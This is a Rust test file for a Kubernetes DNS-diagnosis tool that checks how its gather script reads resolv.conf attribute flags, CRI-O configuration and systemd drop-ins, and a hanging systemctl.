    // its shell's descriptor is once it exited. On a node the gather runs in the host's.)
    assert_eq!(
        held.clone().and_then(|h| h).and_then(|h| h.run).as_deref(),
        Some("r1"),
        "{held:?}"
    );
    assert_eq!(free, Some(None));
}

/// A regular /etc/resolv.conf comes with its attribute flags: `i` where it is locked with
/// `chattr +i`, `a` with `chattr +a` (which `test -w` does not tell), neither otherwise.
#[test]
fn a_regular_resolv_conf_comes_with_its_attribute_flags() {
    // Under the target directory: the flags need a file system with attributes (ext4,
    // xfs, btrfs), which a tmpfs /tmp is not.
    let scratch = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("dnsfix-gather-attr-{}", std::process::id()));
    let tree = scratch.join("root");
    let file = tree.join("etc/resolv.conf");
    std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
    std::fs::write(&file, "nameserver 169.254.25.10\n").expect("write");
    let chattr = |flag: &str| {
        let out = Command::new("chattr")
            .arg(flag)
            .arg(&file)
            .output()
            .expect("chattr runs (e2fsprogs)");
        assert!(
            out.status.success(),
            "chattr {flag} {}: {}",
            file.display(),
            String::from_utf8_lossy(&out.stderr)
        );
    };
    let flags = |run: &str| {
        let raw = gathered(&tree, &scratch.join(run));
        let attr = raw
            .commands
            .get("resolv-conf-attr")
            .unwrap_or_else(|| panic!("{run}: {:?}", raw.commands));
        attr.stdout
            .split_whitespace()
            .next()
            .unwrap_or_default()
            .to_owned()
    };
    let plain = flags("plain");
    chattr("+i");
    let immutable = flags("immutable");
    chattr("-i");
    chattr("+a");
    let append = flags("append");
    chattr("-a");
    let _ = std::fs::remove_dir_all(&scratch);
    assert!(!plain.contains(['i', 'a']), "{plain}");
    assert!(immutable.contains('i'), "{immutable}");
    assert!(append.contains('a'), "{append}");
}

/// CRI-O's drop-in directory as the script walks it (cri-o @f954a17e pkg/config/config.go
/// `UpdateFromPath`: filepath.Walk, subdirectories and hidden names in walk order), on the
/// node of DNS-BRIDGE-NF-OFF/crio-default-network-bridge: `10-base.conf` names Calico's
/// network, a hidden `.override.conf` in the subdirectory `sub`, walked after it, names
/// CRI-O's bridge, and /etc/sysconfig/crio passes `--log-level=info` only
/// (contrib/systemd/crio.service @f954a17e): the facts read the override, bridged. A FIFO
/// among the drop-ins (never opened) or a name with a newline leaves the network unknown,
/// nothing of /etc/cni/net.d taken for it (a drop-in not read may set network_dir).
#[test]
fn crio_drop_ins_are_walked_as_crio_walks_them() {
    let (scratch, tree) = fixture_copy(
        "dnsfix-gather-crio",
        "DNS-BRIDGE-NF-OFF/crio-default-network-bridge",
    );
    let drop_ins = tree.join("etc/crio/crio.conf.d");
    std::fs::remove_file(drop_ins.join("20-network.conf")).expect("rm");
    std::fs::create_dir_all(drop_ins.join("sub")).expect("mkdir");
    std::fs::write(
        drop_ins.join("10-base.conf"),
        "[crio.network]\ncni_default_network = \"k8s-pod-network\"\n",
    )
    .expect("write");
    std::fs::write(
        drop_ins.join("sub/.override.conf"),
        "[crio.network]\ncni_default_network = \"crio\"\n",
    )
    .expect("write");
    std::fs::create_dir_all(tree.join("etc/sysconfig")).expect("mkdir");
    std::fs::write(
        tree.join("etc/sysconfig/crio"),
        "# /etc/sysconfig/crio\nCRIO_CONFIG_OPTIONS=\"--log-level=info\"\n",
    )
    .expect("write");
    let raw = gathered(&tree, &scratch.join("run"));
    let read = |raw: &RawFacts, path: &str| raw.get(path).map(|f| f.state);
    assert_eq!(
        read(&raw, "/etc/crio/crio.conf.d/sub/.override.conf"),
        Some(FileState::Present),
        "{:?}",
        raw.order
    );
    assert_eq!(read(&raw, "/etc/sysconfig/crio"), Some(FileState::Present));
    let facts = NodeFacts::from_raw("node1", &raw);
    assert_eq!(
        facts.cni.config.as_deref(),
        Some("/etc/cni/net.d/10-crio-bridge.conflist")
    );
    assert_eq!(facts.cni.runtime_unknown, None);
    assert!(
        matches!(
            facts.cni.pod_bridge,
            dnsfix::facts::cni::PodBridge::Bridged(_)
        ),
        "{:?}",
        facts.cni
    );
    // A FIFO and a name with a newline: neither is read, and the network is not known.
    let fifo = drop_ins.join("sub/30-fifo.conf");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo")
            .success()
    );
    std::fs::write(drop_ins.join("40-a\nb.conf"), "[crio.network]\n").expect("write");
    let raw = gathered(&tree, &scratch.join("run2"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(
        read(&raw, "/etc/crio/crio.conf.d/sub/30-fifo.conf"),
        Some(FileState::Unreadable)
    );
    assert_eq!(
        read(&raw, "/etc/crio/crio.conf.d/"),
        Some(FileState::Unreadable),
        "{:?}",
        raw.order
    );
    let facts = NodeFacts::from_raw("node1", &raw);
    // A drop-in not read may set network_dir: nothing of /etc/cni/net.d is taken for the
    // network then (it is unknown, treated as bridged), and the reason names the file.
    let dnsfix::facts::cni::PodBridge::Unknown(why) = &facts.cni.pod_bridge else {
        panic!("{:?}", facts.cni);
    };
    assert!(
        why.contains("/etc/crio/crio.conf.d/") && why.contains("could not be read"),
        "{:?}",
        facts.cni
    );
    assert!(facts.cni.plugins.is_empty(), "{:?}", facts.cni);
    assert!(
        matches!(
            facts.cni.pod_bridge,
            dnsfix::facts::cni::PodBridge::Unknown(_)
        ),
        "{:?}",
        facts.cni
    );
}

/// CRI-O's unit as the script gathers it, on the node of
/// DNS-BRIDGE-NF-OFF/crio-unit-empty-default-network (the Debian packages' unit, cri-o/packaging
/// @b111fe95, reading /etc/default/crio, which sets CONTAINER_CNI_DEFAULT_NETWORK empty)
/// with the drop-in Kubespray writes beside it (@46dbdd39 roles/container-engine/cri-o/
/// templates/http-proxy.conf.j2, rendered with an http_proxy): the unit, the drop-in and the
/// environment file its EnvironmentFile= names are read, and CRI-O takes the first file by
/// name, Calico's. A drop-in that starts CRI-O with `--cni-config-dir` leaves the network
/// unknown, and the reason names it.
#[test]
fn crio_s_unit_drop_ins_and_environment_file_are_gathered() {
    let (scratch, tree) = fixture_copy(
        "dnsfix-gather-crio-unit",
        "DNS-BRIDGE-NF-OFF/crio-unit-empty-default-network",
    );
    let drop_ins = tree.join("etc/systemd/system/crio.service.d");
    std::fs::create_dir_all(&drop_ins).expect("mkdir");
    std::fs::write(
        drop_ins.join("http-proxy.conf"),
        "[Service]\nEnvironment=\"HTTP_PROXY=http://proxy.example:3128\"  \n",
    )
    .expect("write");
    let raw = gathered(&tree, &scratch.join("run"));
    let read = |raw: &RawFacts, path: &str| raw.get(path).map(|f| f.state);
    for path in [
        "/usr/lib/systemd/system/crio.service",
        "/etc/systemd/system/crio.service.d/http-proxy.conf",
        "/etc/default/crio",
    ] {
        assert_eq!(
            read(&raw, path),
            Some(FileState::Present),
            "{path}: {:?}",
            raw.order
        );
    }
    let facts = NodeFacts::from_raw("node1", &raw);
    assert_eq!(
        facts.cni.config.as_deref(),
        Some("/etc/cni/net.d/10-calico.conflist"),
        "{:?}",
        facts.cni
    );
    std::fs::write(
        drop_ins.join("20-cni.conf"),
        "[Service]\nExecStart=\nExecStart=/usr/bin/crio --cni-config-dir /etc/kubernetes/cni/net.d\n",
    )
    .expect("write");
    let raw = gathered(&tree, &scratch.join("run2"));
    let _ = std::fs::remove_dir_all(&scratch);
    let facts = NodeFacts::from_raw("node1", &raw);
    let dnsfix::facts::cni::PodBridge::Unknown(why) = &facts.cni.pod_bridge else {
        panic!("{:?}", facts.cni);
    };
    assert!(
        why.starts_with("/etc/systemd/system/crio.service.d/20-cni.conf:3 passes --cni-config-dir"),
        "{why}"
    );
    assert_eq!(facts.cni.config, None, "{:?}", facts.cni);
}

/// `awk` on the PATH of the gather (before.sh runs in its namespace): the real one, each
/// run counted as a line of `$tmp/awk-runs`.
const COUNT_AWK: &str = "real=$(command -v awk)\n\
    printf '#!/bin/sh\\necho run >>\"%s/awk-runs\"\\nexec \"%s\" \"$@\"\\n' \"$tmp\" \"$real\" >/usr/local/sbin/awk\n\
    chmod +x /usr/local/sbin/awk\n";

/// On the kubeadm + CRI-O node of DNS-BRIDGE-NF-OFF/crio-unit-empty-default-network, CRI-O's
/// unit costs no process: the file its EnvironmentFile= names (/etc/default/crio) is read
/// in the round that finds it, never searched (a round over it alone would start one more
/// awk on every CRI-O node), and nothing else of the unit is followed: a `--config-dir` on
/// CRI-O's command line (`-d`, internal/criocli/criocli.go @f954a17e) is CRI-O's, not a
/// kubelet's drop-in directory. A drop-in under the alias cri-o.service.d (the unit's
/// `Alias=cri-o.service`, enabled) is gathered too.
#[test]
fn crio_s_unit_costs_no_awk_round_of_its_own() {
    let (scratch, tree) = fixture_copy(
        "dnsfix-gather-crio-awk",
        "DNS-BRIDGE-NF-OFF/crio-unit-empty-default-network",
    );
    let drop_ins = tree.join("etc/systemd/system/cri-o.service.d");
    std::fs::create_dir_all(&drop_ins).expect("mkdir");
    std::fs::write(
        drop_ins.join("10-dir.conf"),
        "[Service]\nExecStart=\nExecStart=/usr/bin/crio --config-dir=/etc/crio/other.d\n",
    )
    .expect("write");
    std::os::unix::fs::symlink(
        "/usr/lib/systemd/system/crio.service",
        tree.join("etc/systemd/system/cri-o.service"),
    )
    .expect("symlink");
    let other = tree.join("etc/crio/other.d");
    std::fs::create_dir_all(&other).expect("mkdir");
    std::fs::write(other.join("10-x.conf"), "[crio.network]\n").expect("write");
    let run = scratch.join("run");
    std::fs::create_dir_all(&run).expect("mkdir");
    std::fs::write(run.join("before.sh"), COUNT_AWK).expect("before.sh");
    let raw = gathered(&tree, &run);
    let runs = std::fs::read_to_string(run.join("awk-runs")).unwrap_or_default();
    let _ = std::fs::remove_dir_all(&scratch);
    for path in [
        "/etc/default/crio",
        "/etc/systemd/system/cri-o.service.d/10-dir.conf",
    ] {
        assert_eq!(
            raw.get(path).map(|f| f.state),
            Some(FileState::Present),
            "{path}: {:?}",
            raw.order
        );
    }
    assert!(
        raw.get("/etc/crio/other.d/10-x.conf").is_none() && raw.get("/etc/crio/other.d").is_none(),
        "{:?}",
        raw.order
    );
    assert_eq!(runs.lines().count(), 1, "awk runs: {runs:?}");
}

/// `%N` in a drop-in of the alias cri-o.service names the unit, crio: systemd parses the
/// drop-ins of a unit once its id is its unit file's name (systemd-stable @565916c2
/// src/core/load-fragment.c unit_load_fragment, merge_by_names; src/core/unit.c
/// unit_load_fragment_and_dropin loads the drop-ins after) and `%N` is that id without its
/// suffix (src/core/unit-printf.c unit_name_printf), whichever name's directory holds the
/// drop-in. On the node of DNS-BRIDGE-NF-OFF/crio-unit-empty-default-network with
/// `Alias=cri-o.service` enabled, `EnvironmentFile=/etc/crio/%N.env` there is
/// /etc/crio/crio.env, gathered, and its CONTAINER_CNI_DEFAULT_NETWORK picks CRI-O's bridge.
#[test]
fn a_specifier_in_an_alias_drop_in_names_the_unit_not_the_alias() {
    let (scratch, tree) = fixture_copy(
        "dnsfix-gather-crio-alias-specifier",
        "DNS-BRIDGE-NF-OFF/crio-unit-empty-default-network",
    );
    let drop_ins = tree.join("etc/systemd/system/cri-o.service.d");
    std::fs::create_dir_all(&drop_ins).expect("mkdir");
    std::fs::write(
        drop_ins.join("30-env.conf"),
        "[Service]\nEnvironmentFile=/etc/crio/%N.env\n",
    )
    .expect("write");
    std::os::unix::fs::symlink(
        "/usr/lib/systemd/system/crio.service",
        tree.join("etc/systemd/system/cri-o.service"),
    )
    .expect("symlink");
    std::fs::write(
        tree.join("etc/crio/crio.env"),
        "CONTAINER_CNI_DEFAULT_NETWORK=crio\n",
    )
    .expect("write");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(
        raw.get("/etc/crio/crio.env").map(|f| f.state),
        Some(FileState::Present),
        "{:?}",
        raw.order
    );
    let facts = NodeFacts::from_raw("node1", &raw);
    assert_eq!(
        facts.cni.config.as_deref(),
        Some("/etc/cni/net.d/10-crio-bridge.conflist"),
        "{:?}",
        facts.cni
    );
}

/// A systemctl that never answers (PID 1 busy or stuck) is stopped after the seconds the
/// script is given, and not asked again: the script goes on to its end with every file,
/// the units' states unknown and a systemctl-cut record saying how long it waited.
#[test]
fn a_systemctl_that_does_not_answer_is_stopped_and_not_asked_again() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-hang-{}", std::process::id()));
    let tree = scratch.join("root");
    // Where both is-enabled calls would be asked: firewalld's unit is installed, and
    // /run/systemd/resolve is there without the links that tell systemd-resolved enabled.
    let unit = tree.join("usr/lib/systemd/system/firewalld.service");
    std::fs::create_dir_all(unit.parent().expect("parent")).expect("mkdir");
    std::fs::write(
        &unit,
        "[Service]\nExecStart=/usr/sbin/firewalld --nofork --nopid\n",
    )
    .expect("write");
    std::fs::create_dir_all(tree.join("run/systemd/resolve")).expect("mkdir");
    std::fs::create_dir_all(tree.join("etc")).expect("mkdir");
    std::fs::write(tree.join("etc/resolv.conf"), "nameserver 192.0.2.53\n").expect("write");
    std::fs::create_dir_all(tree.join(".dnsfix/cmd")).expect("mkdir");
    std::fs::write(tree.join(".dnsfix/cmd/hang"), "").expect("write");

    let t = std::time::Instant::now();
    let raw = gathered_waiting(&tree, &scratch.join("run"), Some(1));
    let took = t.elapsed();
    let calls = std::fs::read_to_string(scratch.join("run/systemctl.calls")).unwrap_or_default();
    let _ = std::fs::remove_dir_all(&scratch);

    assert!(took.as_secs() < 10, "the gather took {took:?}");
    let units = raw.commands.get("units").expect("the is-active record");
    assert!(
        matches!(units.status, Some(124 | 137 | 143)),
        "is-active: {units:?}"
    );
    assert_eq!(calls.lines().count(), 1, "systemctl asked again: {calls:?}");
    // The calls not made are there, with no exit status: asked of no one.
    for call in ["resolved-enabled", "firewalld-enabled"] {
        let record = raw.commands.get(call);
        assert!(
            record.is_some_and(|c| c.status.is_none() && c.stdout.is_empty()),
            "{call}: {record:?}"
        );
    }
    let facts = NodeFacts::from_raw("node1", &raw);
    assert_eq!(facts.services.systemctl_cut, Some(1));
    assert_eq!(
        facts.services.systemd_resolved,
        dnsfix::facts::node_facts::UnitState::Unknown
    );
    // The files after the systemctl calls are there: the resolver and the batch.
    assert_eq!(
        raw.get("/etc/resolv.conf")
            .and_then(|f| f.text())
            .as_deref(),
        Some("nameserver 192.0.2.53\n")
    );
}
